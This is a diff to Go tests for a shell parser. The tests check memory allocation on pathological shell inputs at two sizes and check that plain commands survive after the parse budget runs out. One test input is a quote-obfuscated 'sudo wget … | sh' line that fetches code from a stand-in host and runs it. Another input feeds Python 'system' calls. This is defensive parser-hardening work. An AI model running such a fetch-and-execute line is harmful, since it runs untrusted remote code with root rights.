@@ -152,7 +152,7 @@ func pays(body ast.Node) bool {
 }
 
 // free are texts whose expansion, or the walk over it, once cost nothing, or far
-// more than was counted. %s is repeated as often as 64 KiB hold it.
+// more than was counted. What is repeated is so as often as a size has room for.
 var free = []struct{ name, before, repeated string }{
 	{"replacement", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a//x/yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy};"},
 	{"one replacement each", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a/x/y};"},
@@ -182,11 +182,13 @@ var free = []struct{ name, before, repeated string }{
 	{"reversed", "a=" + strings.Repeat("\xff", 16<<10) + ";", "echo $a|rev;"},
 	{"pipelines in pipelines", strings.Repeat("{ ", 120), "a|b;" + strings.Repeat("}|c;", 1)},
 	{"code", "a='" + strings.Repeat("system(\"x\")", 2<<10) + "';", "python -c \"$a\";"},
+	{"words of substitutions", "", "$(" + strings.Repeat("x ", 1<<10)},
+	{"words of layers", "sh -c '" + strings.Repeat("x ", 60<<10) + "';", "eval 'x x x x x x';"},
+	{"tokens", "", "a|b&&"},
 	{"split by env", "a='" + strings.Repeat("x ", 8<<10) + "';", "env -S \"$a\" b;"},
 }
 
-func freeText(i int) string {
-	const size = 64 << 10
+func freeText(i, size int) string {
 	c := &free[i]
 	n := max((size-len(c.before))/len(c.repeated), 1)
 	return c.before + strings.Repeat(c.repeated, n)
@@ -201,11 +203,13 @@ const mostMade = 12 << 20
 func TestNothingIsFree(t *testing.T) {
 	for i, c := range free {
 		t.Run(c.name, func(t *testing.T) {
-			text := freeText(i)
-			p := NewParser(Limits{})
-			p.panics = true
-			if made := allocated(func() { p.View(text) }); made > mostMade {
-				t.Errorf("%d bytes of text allocate %.1f MiB", len(text), float64(made)/(1<<20))
+			for _, size := range []int{64 << 10, 1 << 20} {
+				text := freeText(i, size)
+				p := NewParser(Limits{})
+				p.panics = true
+				if made := allocated(func() { p.View(text) }); made > mostMade {
+					t.Errorf("%d bytes of text allocate %.1f MiB", len(text), float64(made)/(1<<20))
+				}
 			}
 		})
 	}
@@ -231,7 +235,7 @@ func TestSpentBudgetKeepsPlainCommands(t *testing.T) {
 		if !strings.HasSuffix(c.repeated, ";") {
 			continue
 		}
-		text := freeText(i)
+		text := freeText(i, 64<<10)
 		text = text[:min(len(text), 60<<10)]
 		text = text[:strings.LastIndexByte(text, ';')+1] + "sudo w'g'et   -q \"http://x/a\"|sh"
 		s := Parse(text, Limits{})
@@ -245,7 +249,7 @@ func TestSpentBudgetKeepsPlainCommands(t *testing.T) {
 	}
 	for _, name := range []string{"replacement", "upper case", "words", "assignments", "array", "read", "blank file", "table", "formats", "separators"} {
 		i := slices.IndexFunc(free, func(c struct{ name, before, repeated string }) bool { return c.name == name })
-		if !Parse(freeText(i), Limits{}).Bounded {
+		if !Parse(freeText(i, 64<<10), Limits{}).Bounded {
 			t.Errorf("%s: what was left out is not said", name)
 		}
 	}
